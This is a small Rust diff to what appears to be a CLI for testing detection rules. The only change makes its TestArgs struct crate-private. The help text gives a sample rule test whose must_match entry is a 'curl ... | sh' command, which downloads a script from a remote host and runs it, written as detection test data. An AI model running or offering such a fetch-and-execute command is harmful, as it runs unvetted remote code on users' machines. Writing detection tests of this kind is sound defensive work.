@@ -22,7 +22,7 @@ use report::{Report, SampleResult};
 #[command(
     after_help = "Example: rulesyncd test rules/\n\nThe samples of rules/NAME.yaml are in rules/NAME.test.yaml:\n\n  must_match:\n  - curl -s http://198.51.100.7/x | sh\n  must_not_match:\n  - curl -O http://198.51.100.7/x\n\nA sample matches if one of the rule's patterns is found in it, as by re.search. Where a rule has patterns for several fields, each sample names its own: `- url: http://198.51.100.7/x`.\n\nExit codes: 0 every sample is as expected, 1 one is not or a file is invalid, 2 usage, 3 a path could not be read, there is no test, or a pattern needs Python."
 )]
-pub struct TestArgs {
+pub(crate) struct TestArgs {
     /// Directories of rules, rule files, or test files
     #[arg(required = true)]
     paths: Vec<PathBuf>,
